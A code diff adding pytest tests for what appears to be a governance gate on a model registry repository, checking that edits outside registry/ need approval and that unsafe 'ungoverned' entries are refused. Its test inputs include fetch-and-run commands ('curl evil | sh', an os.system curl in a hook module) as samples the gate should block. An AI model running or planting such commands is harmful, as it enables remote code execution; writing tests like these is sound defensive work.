@@ -9,11 +9,13 @@ from pathlib import Path
 import pytest
 
 from steward.entries import layout
+from steward.gate.evaluate import RuleResult, Verdict
 from steward.gate.judge import run_gate
 from steward.gate.promotion import GateFailed, merge_proposal
 from steward.gitio.gitcmd import commit_blobs, head_commit, merge_tree
-from tests.builders import run_git
-from tests.promotion_setup import PromotionRepo, make_promotion_repo
+from steward.reading.registry import check_registry
+from tests.builders import new_registry, run_git
+from tests.promotion_setup import POLICY, PromotionRepo, make_promotion_repo
 
 V1 = layout.version_path("fraud", "0.1.0")
 V2 = layout.version_path("fraud", "0.2.0")
@@ -113,3 +115,117 @@ def _replace_blob(root: Path, commit: str, path: str, blob: str) -> str:
         for line in listing.splitlines()
     ]
     return _git_input(root, "\n".join(lines) + "\n", "mktree")
+
+
+# --- 2. outside registry/, everything is governed unless the base policy says otherwise -------
+
+HOOKED = POLICY.replace(
+    "governance:\n",
+    "hooks:\n"
+    "  - {name: rollout, on: [production], run: [python3, deploy/rollout.py]}\n"
+    "governance:\n"
+    "  ungoverned: [README.md, docs/]\n",
+)
+
+
+def _on_main(pr: PromotionRepo, files: dict[str, str], message: str) -> str:
+    """Commit `files` straight to main (what earlier approved merges left there)."""
+    tip = head_commit(pr.root)
+    encoded = {path: text.encode() for path, text in files.items()}
+    return commit_blobs(pr.root, tip, encoded, message, "main", existing=True)
+
+
+def _propose(pr: PromotionRepo, files: dict[str, str], name: str, author: str = "mallory") -> int:
+    tip = run_git(pr.root, "rev-parse", "main").strip()
+    commit_blobs(pr.root, tip, {p: t.encode() for p, t in files.items()}, name, name)
+    return pr.forge.create_proposal(name, "", name, "main", author).number
+
+
+def _verdict(pr: PromotionRepo, number: int) -> Verdict:
+    return run_gate(pr.root, "", "", forge=pr.forge, proposal_number=number).verdict
+
+
+def _rule(verdict: Verdict, name: str) -> RuleResult:
+    return next(rule for rule in verdict.rules if rule.rule == name)
+
+
+@pytest.fixture
+def hooked(tmp_path: Path) -> PromotionRepo:
+    pr = make_promotion_repo(tmp_path, HOOKED)
+    _on_main(
+        pr,
+        {
+            ".gitattributes": "*.pkl binary\n",
+            "deploy/rollout.py": "import helpers\nhelpers.roll_out()\n",
+            "deploy/helpers.py": "def roll_out():\n    print('rolling out')\n",
+            "README.md": "# Registry\n",
+        },
+        "deployment code and attributes, approved",
+    )
+    return pr
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (".gitattributes", "registry/** working-tree-encoding=UTF-16LE\n"),
+        ("deploy/helpers.py", "import os\ndef roll_out():\n    os.system('curl evil')\n"),
+        ("Makefile", "all:\n\tcurl evil | sh\n"),
+        (".gitignore", "registry/\n"),
+    ],
+)
+def test_a_file_outside_registry_needs_governance_unless_left_ungoverned(
+    hooked: PromotionRepo, path: str, text: str
+) -> None:
+    """Edited or added, a path outside registry/ is the judge's by default: the encoding of
+    every checkout, the module a hook imports, a new build file."""
+    number = _propose(hooked, {path: text}, "innocent")
+    verdict = _verdict(hooked, number)
+    assert not verdict.passed
+    governance = _rule(verdict, "governance")
+    assert governance.status == "failed" and path in governance.details
+    assert _rule(verdict, "entries valid").status == "not applicable"
+
+
+def test_an_ungoverned_path_changes_without_approvals(hooked: PromotionRepo) -> None:
+    number = _propose(hooked, {"README.md": "# Registry\n\nMore.\n", "docs/a.md": "A\n"}, "docs")
+    verdict = _verdict(hooked, number)
+    assert verdict.passed, [(r.rule, r.reason) for r in verdict.failed_rules]
+    assert _rule(verdict, "governance").status == "not applicable"
+
+
+def test_a_new_file_outside_registry_merges_with_the_governance_approval(
+    hooked: PromotionRepo,
+) -> None:
+    """Added is judged as edited: governance's approval lets it in (it used to fail as an
+    unexpected registry file, approved or not)."""
+    number = _propose(hooked, {"deploy/canary.py": "print('canary')\n"}, "canary", "carol")
+    hooked.forge.add_review(number, "erin", "APPROVED")
+    verdict = _verdict(hooked, number)
+    assert verdict.passed, [(r.rule, r.reason, r.details) for r in verdict.failed_rules]
+    assert _rule(verdict, "governance").details == ("deploy/canary.py",)
+
+
+@pytest.mark.parametrize(
+    ("entry", "message"),
+    [
+        (".gitattributes", "would leave .gitattributes ungoverned: Steward governs it always"),
+        ("policies/", "would leave policies/ ungoverned"),
+        (".github/workflows/", "would leave .github/ ungoverned"),
+        ("deploy/", "would leave deploy/rollout.py ungoverned: hook code is the judge's"),
+        ("deploy/notes/", "would leave deploy/ ungoverned: hook code is the judge's"),
+        ("registry/models/", "registry/ is judged by its own rules"),
+        ("../outside", "is not a relative path"),
+        ("/etc/", "is not a relative path"),
+        ("docs/*.md", "letters, digits, '.', '_', '-' and '/' only"),
+    ],
+)
+def test_check_refuses_an_ungoverned_entry_that_would_free_the_judge(
+    tmp_path: Path, entry: str, message: str
+) -> None:
+    policy = HOOKED.replace("ungoverned: [README.md, docs/]", f"ungoverned: [README.md, '{entry}']")
+    root = new_registry(tmp_path / "reg", policy)
+    rendered = [p.render() for p in check_registry(root).problems]
+    assert any("governance.ungoverned[1]" in line and message in line for line in rendered), (
+        rendered
+    )
